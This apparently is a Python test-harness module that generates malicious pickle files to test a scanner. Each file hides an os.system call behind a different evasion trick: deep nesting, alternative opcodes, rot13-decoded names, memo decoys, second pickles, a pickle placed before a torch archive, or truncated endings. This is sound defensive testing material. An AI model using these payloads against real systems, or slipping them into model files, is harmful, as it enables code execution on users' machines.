"""The same plain payload, hidden: deep in a value, by other opcodes, in the memo, after a first
pickle, or before a broken end.
"""

from __future__ import annotations

import struct
from typing import Any

from harness.hostile import Family
from harness.hostile.callables import SHELL
from harness.hostile.opcodes import (
    PROTO_2,
    PROTO_4,
    STOP,
    Global,
    Raw,
    pickled,
    push,
    short_text,
    stack_global,
    text_global,
)
from harness.records.trials import Harm

SYSTEM = Global("os", "system")
PAYLOAD = SYSTEM(SHELL)

nested = Family("nested", "pickle", Harm.CODE)
spelled = Family("spelled", "pickle", Harm.CODE)
memo = Family("memo", "pickle", Harm.CODE)
second = Family("second-pickles", "pickle", Harm.CODE)
cut = Family("cut-after", "pickle", Harm.CODE)

_NAMED = text_global("os", "system")
_ARGUMENTS = push((SHELL,))


def _deep(value: Any, levels: int) -> Any:
    for _ in range(levels):
        value = [value]
    return value


nested.table(
    "{}.pkl",
    (
        ("in-dict-key", "the payload is a key of a dictionary", {PAYLOAD: "a"}),
        ("fifty-deep", "the payload is inside fifty nested lists", _deep(PAYLOAD, 50)),
    ),
    pickled,
)


@nested.hostile_file("in-state.pkl")
def _in_state(_: object) -> bytes:
    """The payload is in the state that BUILD sets on an object."""
    return pickled(Raw(push(Global("collections", "OrderedDict")()) + push({"a": PAYLOAD}) + b"b"))


@nested.hostile_file("setstate.pkl")
def _setstate(_: object) -> bytes:
    """BUILD sets the state of a functools.partial to the payload, and the pickle then calls it."""
    state: Any = (SYSTEM, (SHELL,), {}, None)
    return (
        pickled(Raw(push(Global("functools", "partial")(SYSTEM)) + push(state) + b"b"))[:-1]
        + b")R"
        + STOP
    )


@nested.hostile_file("in-persistent-id.pkl")
def _in_persistent_id(_: object) -> bytes:
    """The payload is part of a persistent id, which torch's files use to name a tensor's memory."""
    return pickled(Raw(push(("storage", PAYLOAD)) + b"Q"))


@spelled.hostile_file("reduce.pkl", plain=True)
def _reduce(_: object) -> bytes:
    """GLOBAL and REDUCE make the call, as pickle itself writes it."""
    return pickled(PAYLOAD)


@spelled.hostile_file("inst.pkl")
def _inst(_: object) -> bytes:
    """INST, an opcode of protocol 0, makes the call with the module and name as text."""
    return b"(S" + repr(SHELL).encode() + b"\nios\nsystem\n" + STOP


@spelled.hostile_file("newobj.pkl")
def _newobj(_: object) -> bytes:
    """NEWOBJ makes the call without REDUCE: it builds a tuple from a map over the arguments."""
    mapped = push(Global("builtins", "map")) + push((SYSTEM, [SHELL])) + b"\x81"
    return PROTO_2 + push(Global("builtins", "tuple")) + mapped + b"\x85\x81" + STOP


@spelled.hostile_file("stack-global.pkl")
def _stack_global(_: object) -> bytes:
    """STACK_GLOBAL takes the names of the module and the callable from the stack."""
    return PROTO_4 + stack_global("os", "system") + _ARGUMENTS + b"R" + STOP


@spelled.hostile_file("stack-global-decoded.pkl")
def _stack_global_decoded(_: object) -> bytes:
    """STACK_GLOBAL takes a name that codecs.decode turns from other letters into "system"."""
    name = Global("_codecs", "decode")("flfgrz", "rot13")
    return PROTO_4 + short_text("os") + push(name) + b"\x93" + _ARGUMENTS + b"R" + STOP


@spelled.hostile_file("stack-global-from-memo.pkl")
def _stack_global_memo(_: object) -> bytes:
    """STACK_GLOBAL takes its names from the memo, where other names lie between them."""
    put = (
        short_text("os")
        + b"\x94"
        + short_text("path")
        + b"\x94"
        + short_text("system")
        + b"\x94"
        + b"000"
    )
    return PROTO_4 + put + b"h\x00h\x02\x93" + _ARGUMENTS + b"R" + STOP


@spelled.hostile_file("dotted-name.pkl")
def _dotted_name(_: object) -> bytes:
    """The callable os.system is reached through another module that imports os."""
    return pickled(Global("shutil", "os.system")(SHELL), PROTO_4)


@spelled.hostile_file("extension.pkl")
def _extension(_: object) -> bytes:
    """EXT1 names the callable by a number that the pickle registered before."""
    register = Global("copyreg", "add_extension")("os", "system", 240)
    return PROTO_2 + push(register) + b"0\x82\xf0" + _ARGUMENTS + b"R" + STOP


@memo.hostile_file("overwritten.pkl")
def _overwritten(_: object) -> bytes:
    """The payload's callable replaces a harmless one in the memo before the call."""
    return (
        PROTO_2
        + text_global("collections", "OrderedDict")
        + b"q\x010"
        + _NAMED
        + b"q\x010"
        + b"h\x01"
        + _ARGUMENTS
        + b"R"
        + STOP
    )


@memo.hostile_file("far-away.pkl")
def _far_away(_: object) -> bytes:
    """The callable is at index 70,000 of the memo."""
    return (
        PROTO_2
        + _NAMED
        + b"r"
        + struct.pack("<I", 70000)
        + b"0j"
        + struct.pack("<I", 70000)
        + _ARGUMENTS
        + b"R"
        + STOP
    )


@memo.hostile_file("decoys.pkl")
def _decoys(_: object) -> bytes:
    """Forty harmless globals are pushed and popped around the dangerous one."""
    decoy = text_global("collections", "OrderedDict") + b"0"
    return PROTO_2 + decoy * 20 + _NAMED + decoy * 20 + _ARGUMENTS + decoy + b"R" + STOP


@memo.hostile_file("popped-mark.pkl")
def _popped_mark(_: object) -> bytes:
    """POP_MARK drops the result of the call, so the loaded value looks harmless."""
    return PROTO_2 + b"(" + push(PAYLOAD) + b"1" + push({"a": 1}) + STOP


@second.hostile_file("second-pickle.pkl")
def _second(_: object) -> bytes:
    """A second pickle with the payload follows a harmless one; reading only the first is safe."""
    return pickled({"a": 1}) + pickled(PAYLOAD)


@second.hostile_file("before-an-archive.pkl")
def _before_an_archive(_: object) -> bytes:
    """A pickle with the payload stands before a clean archive, and zip readers do not see it."""
    from harness.hostile.archives import tensor, torch_members, zipped

    return zipped(torch_members(pickled({"a": tensor()})), before=pickled(PAYLOAD))


cut.table(
    "{}.pkl",
    (
        ("without-stop", "the pickle ends right after the call, without STOP", b""),
        ("then-broken", "an unknown opcode follows the call", b"\xff\xff."),
        (
            "then-cut",
            "after the call, the pickle announces a text of a thousand bytes and ends",
            b"X\xe8\x03\x00\x00abc",
        ),
        (
            "then-underflow",
            "after the call, the pickle pops more values than the stack holds",
            b"000000.",
        ),
    ),
    lambda rest: PROTO_2 + push(PAYLOAD) + rest,
)
